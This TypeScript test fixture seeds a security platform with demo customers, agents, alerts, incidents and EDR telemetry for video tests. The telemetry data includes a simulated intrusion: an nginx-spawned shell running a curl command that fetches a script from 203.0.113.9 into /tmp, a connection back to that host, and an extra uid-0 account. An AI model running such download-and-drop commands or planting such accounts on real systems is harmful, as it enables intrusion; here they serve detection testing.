// A small, fixed story for the video tests to film, made through the real paths only: customers and
// operator actions through the API, agents enrolled through the mTLS ingress that report like the
// reference agent. (`stockade demo seed` will tell a longer one; this is enough for every page.)
import { createHash } from 'node:crypto';
import type { AgentClient } from '../../src/agent/client.ts';
import { IngressClient } from '../../src/agent/run/client.ts';
import type { Stockade } from '../../src/serve.ts';
import { telemetryRoot } from '../../src/telemetry/items.ts';
import { apiCall, enrollAgent } from '../dashboard/stack.ts';
import { accountItem, connectionItem, processItem } from '../edr/items.ts';
import { readToken } from '../helpers/events.ts';

interface Target {
  stk: Stockade;
  base: string;
  adminKey: string;
  caPem(): Promise<string>;
}

const now = (): string => new Date().toISOString();

async function api(t: Target, method: string, path: string, body?: unknown): Promise<any> {
  const r = await apiCall(t.base, t.adminKey, method, path, body);
  if (r.status >= 300) throw new Error(`${method} ${path}: ${r.status} ${JSON.stringify(r.body)}`);
  return r.body;
}

/** Reads a list once the read models hold everything appended so far (read-your-writes). */
async function list(t: Target, tenant: string, area: string, query = ''): Promise<any[]> {
  // Read-your-writes takes the tenant's opaque read token for a position, never the position itself.
  const waitFor = await readToken(t.stk.runtime.streams, tenant, await t.stk.runtime.log.lastPosition());
  return (await api(t, 'GET', `/tenants/${tenant}/${area}?waitFor=${encodeURIComponent(waitFor)}&limit=200${query}`)).items;
}

/** Fills the install with two customers, Acme Corp (every product) and Globex Inc (EDR only). */
export async function tellStory(t: Target): Promise<void> {
  const agents: AgentClient[] = [];
  try {
    const acme = await api(t, 'POST', '/tenants', { id: 'acme', name: 'Acme Corp' });
    for (const p of ['edr', 'patch', 'attack-surface', 'identity']) await api(t, 'PUT', `/tenants/acme/products/${p}`, { enabled: true });
    const globex = await api(t, 'POST', '/tenants', { id: 'globex', name: 'Globex Inc' });
    await api(t, 'PUT', '/tenants/globex/products/edr', { enabled: true });
    await list(t, 'acme', 'agents');

    const web = await enrollAgent(t, acme.enrollSecret, 'acme-web-01');
    const db = await enrollAgent(t, acme.enrollSecret, 'acme-db-02');
    const dc = await enrollAgent(t, acme.enrollSecret, 'acme-dc-01');
    const gx = await enrollAgent(t, globex.enrollSecret, 'globex-db-07');
    agents.push(web, db, dc, gx);
    await web.report([{ kind: 'heartbeat', at: now(), data: { inventory: { kernel: '6.1.0-18-amd64', packages: 812, ip: '10.0.4.21' } } }]);
    await db.report([{ kind: 'heartbeat', at: now(), data: { inventory: { kernel: '6.1.0-18-amd64', packages: 644, ip: '10.0.4.33' } } }]);
    await dc.report([{ kind: 'heartbeat', at: now(), data: { inventory: { os: 'Windows Server 2022', ip: '10.0.4.2' } } }]);
    await web.report([
      { kind: 'alert', at: now(), data: { rule: 'edr.lsass-access', severity: 'critical', title: 'Credential dumping: LSASS memory read' } },
      { kind: 'alert', at: now(), data: { rule: 'edr.ps-download', severity: 'high', title: 'Suspicious PowerShell download cradle' } },
      {
        kind: 'finding',
        at: now(),
        data: { product: 'patch', title: 'OpenSSL 3.0.11 is missing security fixes', severity: 'high', subject: 'openssl 3.0.11' },
      },
      { kind: 'finding', at: now(), data: { product: 'attack-surface', title: 'SSH accepts password logins', severity: 'medium', subject: 'acme-web-01:22' } },
      { kind: 'scan-run', at: now(), data: { merkleRoot: 'a3'.repeat(32), itemCount: 1204, startedAt: new Date(Date.now() - 42_000).toISOString() } },
      { kind: 'evidence', at: now(), data: { name: 'powershell-history.txt', sha256: '5e'.repeat(32), sizeBytes: 18_432 } },
    ]);
    await dc.report([
      { kind: 'alert', at: now(), data: { rule: 'id.local-admin-added', severity: 'medium', title: 'New local administrator added' } },
      { kind: 'finding', at: now(), data: { product: 'identity', title: 'Service account password never expires', severity: 'high', subject: 'svc-backup' } },
    ]);
    await db.report([
      { kind: 'alert', at: now(), data: { rule: 'edr.unsigned-driver', severity: 'low', title: 'Unsigned driver loaded' } },
      { kind: 'finding', at: now(), data: { product: 'patch', title: 'tzdata is out of date', severity: 'low', subject: 'tzdata 2023c' } },
    ]);
    await gx.report([{ kind: 'alert', at: now(), data: { rule: 'id.admin-login', severity: 'medium', title: 'Unexpected admin login' } }]);

    const alerts = await list(t, 'acme', 'alerts');
    const byTitle = (s: string): string => alerts.find((a) => a.title === s).id;
    const incident = await api(t, 'POST', '/tenants/acme/incidents', {
      title: 'Credential theft on acme-web-01',
      severity: 'critical',
      alertIds: [byTitle('Credential dumping: LSASS memory read'), byTitle('Suspicious PowerShell download cradle')],
    });
    await list(t, 'acme', 'incidents');
    await api(t, 'PATCH', `/tenants/acme/incidents/${incident.id}`, { status: 'investigating', assignee: 'dana@msp.example' });
    await api(t, 'POST', `/tenants/acme/alerts/${byTitle('Unsigned driver loaded')}/ack`);

    const findings = await list(t, 'acme', 'findings');
    const tz = findings.find((f) => f.title === 'tzdata is out of date');
    await api(t, 'PATCH', `/tenants/acme/findings/${tz.id}`, { state: 'accepted-risk', reason: 'legacy host, replaced next quarter' });

    const evidence = await list(t, 'acme', 'evidence');
    await api(t, 'POST', `/tenants/acme/evidence/${evidence[0].id}/transfer`, { to: 'forensics-locker-2', note: 'bagged for the incident' });

    await api(t, 'POST', `/tenants/acme/agents/${web.agentId}/commands`, { action: 'collect-inventory', args: {} });
    const pulled = await web.commands();
    await web.result(pulled[0]!.id, 'succeeded', 'inventory sent: 812 packages');
    await api(t, 'POST', '/tenants/acme/tokens', { role: 'auditor', label: 'external auditor' });
    await list(t, 'acme', 'commands');

    // People: an MSP analyst of both customers, and a customer admin of Acme; four eyes on isolation.
    for (const [name, email, roles] of [
      ['Dana Ops', 'dana@msp.example', { acme: ['msp-analyst'], globex: ['msp-analyst'] }],
      ['Chris Acme', 'chris@acme.example', { acme: ['customer-admin'] }],
    ] as const) {
      const u = await api(t, 'POST', '/users', { name, email });
      const accepted = await fetch(`${t.base}/api/v1/invitations/accept`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ token: u.invitation.token, password: 'violet-kestrel-harbour-42' }),
      });
      if (accepted.status !== 200) throw new Error(`accept ${email}: ${accepted.status}`);
      for (const [tenant, rs] of Object.entries(roles)) await api(t, 'PUT', `/tenants/${tenant}/access`, { userId: u.id, roles: rs });
    }
    await api(t, 'PUT', '/tenants/acme/policy', { fourEyes: ['isolate-host', 'role-change'], approvalExpiryMinutes: 60 });
    await list(t, 'acme', 'approvals');
    await telemetryStory(t, web);
  } finally {
    for (const a of agents) a.close();
  }
}

/** The detector rule "Program Executed from a Temporary Folder", which the story's telemetry trips. */
export const TMP_RULE = '26503e3d-5818-4939-a0c5-430a72231ccb';

/**
 * What EDR and identity show: acme-web-01 sends telemetry through the ingress as its agent does
 * (processes, a connection, account changes; the detector raises its alerts from them), uploads a
 * log file it was asked to collect, and the customer has a webhook channel for its SOC.
 */
async function telemetryStory(t: Target, web: AgentClient): Promise<void> {
  const wire = new IngressClient(web.state);
  try {
    const at = '2026-11-30T04:58:12.000Z';
    const items = [
      processItem(812, { exe: '/usr/sbin/nginx', name: 'nginx', user: 'www-data', uid: 33, cmdline: 'nginx: worker process', startedAt: at }),
      processItem(4417, {
        exe: '/usr/bin/dash',
        name: 'sh',
        user: 'www-data',
        uid: 33,
        ppid: 812,
        cmdline: 'sh -c curl -s http://203.0.113.9/x.sh -o /tmp/.x/kworker',
        parentExe: '/usr/sbin/nginx',
        parentName: 'nginx',
        parentCmdline: 'nginx: worker process',
        startedAt: at,
      }),
      processItem(4421, { exe: '/tmp/.x/kworker', name: 'kworker', user: 'www-data', uid: 33, ppid: 4417, cmdline: '/tmp/.x/kworker -d', startedAt: at }),
      connectionItem(4444, { localAddress: '10.0.4.21', localPort: 51514, remoteAddress: '203.0.113.9', pid: 4421, exe: '/tmp/.x/kworker', user: 'www-data' }),
      accountItem('toor', { uid: 0, privileged: true, details: { flags: ['extra-uid-0'], groups: [], shell: '/bin/bash' } }),
      accountItem('alice', { uid: 1000, details: { flags: [], groups: ['sudo'], sudo: ['%sudo ALL=(ALL:ALL) ALL'] } }),
      accountItem('alice', { change: 'group-member-added', uid: 1000, group: 'sudo', privileged: true, details: {} }),
    ];
    const r = await wire.telemetry({ batchId: 'story-telemetry-1', merkleRoot: telemetryRoot(items), items: items as never });
    if (r.status !== 202) throw new Error(`telemetry: ${r.status} ${JSON.stringify(r.body)}`);
    await web.report([
      {
        kind: 'finding',
        at: now(),
        data: { product: 'identity', title: 'Account other than root with uid 0: toor', severity: 'high', subject: 'local:toor:extra-uid-0' },
      },
    ]);
    // The agent collects a file it was asked for: the bytes are uploaded, their hash sealed.
    await api(t, 'POST', `/tenants/acme/agents/${web.agentId}/commands`, { action: 'collect-evidence', args: { path: '/var/log/auth.log' } });
    const collect = (await web.commands()).find((c) => c.action === 'collect-evidence')!;
    const bytes = Buffer.from('Nov 30 04:58:09 acme-web-01 sshd[1022]: Failed password for root from 203.0.113.9 port 52144 ssh2\n');
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    const up = await wire.evidence(collect.id, '/var/log/auth.log', sha256, bytes);
    if (up.status >= 300) throw new Error(`evidence: ${up.status} ${JSON.stringify(up.body)}`);
    await web.result(collect.id, 'succeeded', `/var/log/auth.log: ${bytes.length} bytes, SHA-256 ${sha256}; uploaded as evidence`);
    await api(t, 'POST', '/tenants/acme/notifications/channels', {
      kind: 'webhook',
      name: 'SOC webhook',
      settings: { url: 'https://soc.example.com/stockade' },
      routing: { minSeverity: 'high', thresholds: [1, 10, 100] },
    });
    // The detector works beside the API: wait (bounded) for the alert the telemetry trips.
    const deadline = Date.now() + 60_000;
    while (!(await list(t, 'acme', 'alerts', `&q=${TMP_RULE}`)).length) {
      if (Date.now() > deadline) throw new Error('the detector raised no alert from the story telemetry within 60 s');
      await new Promise((r) => setTimeout(r, 200));
    }
  } finally {
    wire.close();
  }
}
